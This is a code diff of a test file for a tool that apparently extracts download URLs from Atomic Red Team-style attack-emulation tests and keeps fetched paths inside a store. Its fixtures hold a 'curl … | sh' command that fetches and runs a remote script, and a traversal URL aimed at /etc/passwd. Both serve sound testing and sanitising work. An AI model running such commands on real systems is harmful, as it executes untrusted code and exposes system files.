@@ -9,8 +9,8 @@ import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { atomicsUrls, fetchPayloads, storePath } from '../../src/lib/payloads/fetch.ts';
-import { PayloadStore } from '../../src/lib/evaluate/simulate/payloads.ts';
-import { simulateTest } from '../../src/lib/evaluate/events.ts';
+import { PayloadStore } from '../../src/lib/simulate/payload-store.ts';
+import { simulateTest } from '../../src/lib/simulate/harness.ts';
 
 let server: Server;
 let base = '';
@@ -60,8 +60,32 @@ function atomics(): string {
 }
 
 describe('atlas payloads fetch', () => {
-  it('lists every URL a test names, with argument defaults substituted', () => {
-    expect(atomicsUrls(atomics())).toEqual([`${base}/missing.ps1`, `${base}/page`, `${base}/repo/abc123/Invoke-Thing.ps1`, `${base}/repo/abc123/tool.exe`]);
+  it('lists every URL a test names, with argument defaults substituted', async () => {
+    expect(await atomicsUrls(atomics())).toEqual([`${base}/missing.ps1`, `${base}/page`, `${base}/repo/abc123/Invoke-Thing.ps1`, `${base}/repo/abc123/tool.exe`]);
+  });
+  it('reads the tests with the build\'s loader: a default written 1.10 stays 1.10 (js-yaml\'s JSON schema made it 1.1)', async () => {
+    const dir = mkdtempSync(path.join(tmpdir(), 'atlas-fetch-atomics-'));
+    mkdirSync(path.join(dir, 'T1105'));
+    writeFileSync(
+      path.join(dir, 'T1105', 'T1105.yaml'),
+      [
+        'attack_technique: T1105',
+        'display_name: Ingress Tool Transfer',
+        'atomic_tests:',
+        '- name: versioned download',
+        '  auto_generated_guid: 22222222-2222-2222-2222-222222222222',
+        '  supported_platforms: [linux]',
+        '  input_arguments:',
+        '    version:',
+        '      description: release',
+        '      type: string',
+        '      default: 1.10',
+        '  executor:',
+        '    name: sh',
+        '    command: "curl -sSL https://h/releases/v#{version}/tool.sh | sh"',
+      ].join('\n'),
+    );
+    expect(await atomicsUrls(dir)).toEqual(['https://h/releases/v1.10/tool.sh']);
   });
   it('keeps paths inside the store', () => {
     expect(storePath('https://raw.githubusercontent.com/a/b/../../../etc/passwd?x=1')).toBe('raw.githubusercontent.com/etc/passwd');
